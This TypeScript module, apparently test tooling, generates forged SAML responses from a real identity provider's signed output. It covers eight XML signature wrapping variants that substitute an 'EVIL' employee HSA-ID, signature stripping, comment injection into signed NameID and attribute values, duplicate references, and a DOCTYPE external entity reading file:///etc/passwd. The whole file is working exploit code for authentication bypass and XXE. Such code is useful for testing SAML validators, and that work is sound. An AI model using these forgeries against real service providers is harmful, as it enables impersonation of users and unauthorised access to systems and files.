import { DOMParser, XMLSerializer } from '@xmldom/xmldom';

/**
 * Attack variants made by transforming a real IdP's signed output. Each function takes
 * the base64 SAMLResponse and returns a new one; none of them re-signs anything.
 */

const P = 'urn:oasis:names:tc:SAML:2.0:protocol';
const A = 'urn:oasis:names:tc:SAML:2.0:assertion';
const DS = 'http://www.w3.org/2000/09/xmldsig#';

export const EVIL_HSA_ID = 'SE2321000016-EVIL';

export function decode(b64: string): string {
  return Buffer.from(b64, 'base64').toString('utf8');
}
export function encode(xml: string): string {
  return Buffer.from(xml, 'utf8').toString('base64');
}

function parse(b64: string): Document {
  return new DOMParser().parseFromString(decode(b64), 'text/xml');
}
function serialize(doc: Document | Node): string {
  return encode(new XMLSerializer().serializeToString(doc as Node));
}

function child(el: Element, ns: string, name: string): Element | null {
  for (let n = el.firstChild; n; n = n.nextSibling) {
    if (n.nodeType === 1 && (n as Element).namespaceURI === ns && (n as Element).localName === name)
      return n as Element;
  }
  return null;
}
function responseOf(doc: Document): Element {
  return doc.documentElement;
}
function assertionOf(doc: Document): Element {
  return child(responseOf(doc), A, 'Assertion')!;
}
function all(el: Element | Document, ns: string, name: string): Element[] {
  const list = el.getElementsByTagNameNS(ns, name);
  return Array.from({ length: list.length }, (_, i) => list.item(i)!);
}

/** Makes an assertion say someone else: every employee HSA-ID and the NameID become EVIL. */
function makeEvil(assertion: Element, newId: string): void {
  assertion.setAttribute('ID', newId);
  for (const nameId of all(assertion, A, 'NameID')) nameId.textContent = EVIL_HSA_ID;
  for (const attribute of all(assertion, A, 'Attribute')) {
    if (/employeeHsaId|hsaid$/i.test(attribute.getAttribute('Name') ?? '')) {
      for (const value of all(attribute, A, 'AttributeValue')) value.textContent = EVIL_HSA_ID;
    }
  }
}
function withoutSignature(el: Element): Element {
  const copy = el.cloneNode(true) as Element;
  const sig = child(copy, DS, 'Signature');
  if (sig) copy.removeChild(sig);
  return copy;
}

/** XSW1: evil Response at the root; the signed original, unsigned, inside the copied Signature. */
export function xsw1(b64: string): string {
  const doc = parse(b64);
  const original = responseOf(doc);
  const evil = withoutSignature(original);
  evil.setAttribute('ID', '_evil_response');
  makeEvil(child(evil, A, 'Assertion')!, '_evil_assertion');
  const signature = child(original, DS, 'Signature')!.cloneNode(true) as Element;
  signature.appendChild(withoutSignature(original));
  evil.insertBefore(signature, child(evil, P, 'Status'));
  doc.replaceChild(evil, original);
  return serialize(doc);
}

/** XSW2: like XSW1, but the original sits beside the Signature (a detached signature). */
export function xsw2(b64: string): string {
  const doc = parse(b64);
  const original = responseOf(doc);
  const evil = withoutSignature(original);
  evil.setAttribute('ID', '_evil_response');
  makeEvil(child(evil, A, 'Assertion')!, '_evil_assertion');
  const signature = child(original, DS, 'Signature')!.cloneNode(true) as Element;
  const status = child(evil, P, 'Status');
  evil.insertBefore(withoutSignature(original), status);
  evil.insertBefore(signature, status);
  doc.replaceChild(evil, original);
  return serialize(doc);
}

/** XSW3: an evil Assertion before the signed one. */
export function xsw3(b64: string): string {
  const doc = parse(b64);
  const assertion = assertionOf(doc);
  const evil = withoutSignature(assertion);
  makeEvil(evil, '_evil_assertion');
  responseOf(doc).insertBefore(evil, assertion);
  return serialize(doc);
}

/** XSW4: an evil Assertion in place of the signed one, which is nested inside it. */
export function xsw4(b64: string): string {
  const doc = parse(b64);
  const assertion = assertionOf(doc);
  const evil = withoutSignature(assertion);
  makeEvil(evil, '_evil_assertion');
  responseOf(doc).replaceChild(evil, assertion);
  evil.appendChild(assertion);
  return serialize(doc);
}

/** XSW5: the signed Assertion altered (keeping its Signature); an unsigned copy of the original appended. */
export function xsw5(b64: string): string {
  const doc = parse(b64);
  const assertion = assertionOf(doc);
  const originalCopy = withoutSignature(assertion);
  makeEvil(assertion, '_evil_assertion');
  responseOf(doc).appendChild(originalCopy);
  return serialize(doc);
}

/** XSW6: the altered Assertion carries the Signature; the original sits inside that Signature. */
export function xsw6(b64: string): string {
  const doc = parse(b64);
  const assertion = assertionOf(doc);
  const originalCopy = withoutSignature(assertion);
  makeEvil(assertion, '_evil_assertion');
  child(assertion, DS, 'Signature')!.appendChild(originalCopy);
  return serialize(doc);
}

/** XSW7: the original inside an Extensions element; an altered, unsigned Assertion in its place. */
export function xsw7(b64: string): string {
  const doc = parse(b64);
  const response = responseOf(doc);
  const assertion = assertionOf(doc);
  const evil = withoutSignature(assertion);
  makeEvil(evil, '_evil_assertion');
  const extensions = doc.createElementNS(P, 'samlp:Extensions');
  response.insertBefore(extensions, child(response, P, 'Status'));
  response.replaceChild(evil, assertion);
  extensions.appendChild(assertion);
  return serialize(doc);
}

/** XSW8: the altered Assertion carries the Signature with a ds:Object holding the original. */
export function xsw8(b64: string): string {
  const doc = parse(b64);
  const assertion = assertionOf(doc);
  const originalCopy = withoutSignature(assertion);
  makeEvil(assertion, '_evil_assertion');
  const object = doc.createElementNS(DS, 'ds:Object');
  object.appendChild(originalCopy);
  child(assertion, DS, 'Signature')!.appendChild(object);
  return serialize(doc);
}

export function stripSignatures(b64: string, which: 'response' | 'assertion' | 'both'): string {
  const doc = parse(b64);
  if (which !== 'assertion') {
    const sig = child(responseOf(doc), DS, 'Signature');
    if (sig) responseOf(doc).removeChild(sig);
  }
  if (which !== 'response') {
    const assertion = assertionOf(doc);
    const sig = child(assertion, DS, 'Signature');
    if (sig) assertion.removeChild(sig);
  }
  return serialize(doc);
}

/** `SE1<!---->23…`: a comment inside signed text; exclusive c14n drops it, so the digest still matches. */
export function commentInNameId(b64: string): string {
  const xml = decode(b64);
  return encode(xml.replace(/(<(?:\w+:)?NameID\b[^>]*>)([^<]{3})/, '$1$2<!---->'));
}

export function commentInAttributeValue(
  b64: string,
  attributeName: string,
  occurrence: 'first' | 'last' = 'first',
): string {
  const xml = decode(b64);
  const needle = `Name="${attributeName}"`;
  const at = occurrence === 'first' ? xml.indexOf(needle) : xml.lastIndexOf(needle);
  if (at < 0) throw new Error(`no attribute ${attributeName}`);
  const valueStart = xml.indexOf('AttributeValue', at);
  const textStart = xml.indexOf('>', valueStart) + 1;
  return encode(`${xml.slice(0, textStart + 2)}<!---->${xml.slice(textStart + 2)}`);
}

export function commentInDigestValue(b64: string): string {
  const xml = decode(b64);
  return encode(xml.replace(/(<(?:\w+:)?DigestValue>)([^<]{4})/, '$1$2<!---->'));
}

export function twoReferences(b64: string): string {
  const doc = parse(b64);
  const signedInfo = all(doc, DS, 'SignedInfo')[0]!;
  const reference = child(signedInfo, DS, 'Reference')!;
  signedInfo.appendChild(reference.cloneNode(true));
  return serialize(doc);
}

export function twoRoots(b64: string): string {
  const xml = decode(b64).replace(/^<\?xml[^>]*\?>\s*/, '');
  return encode(`${xml}${xml}`);
}

export function withDoctype(b64: string): string {
  const xml = decode(b64).replace(/^<\?xml[^>]*\?>\s*/, '');
  return encode(
    `<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]>${xml}`,
  );
}

export function withEntityReference(b64: string): string {
  const xml = decode(b64).replace(/^<\?xml[^>]*\?>\s*/, '');
  const withRef = xml.replace(/(<(?:\w+:)?NameID\b[^>]*>)/, '$1&x;');
  return encode(`<!DOCTYPE r [<!ENTITY x "SE2321000016-EVIL">]>${withRef}`);
}

/** Changes a signed value without re-signing. */
export function alterSignedValue(b64: string, from: string, to: string): string {
  const xml = decode(b64);
  if (!xml.includes(from)) throw new Error(`value ${from} not in response`);
  return encode(xml.replaceAll(from, to));
}
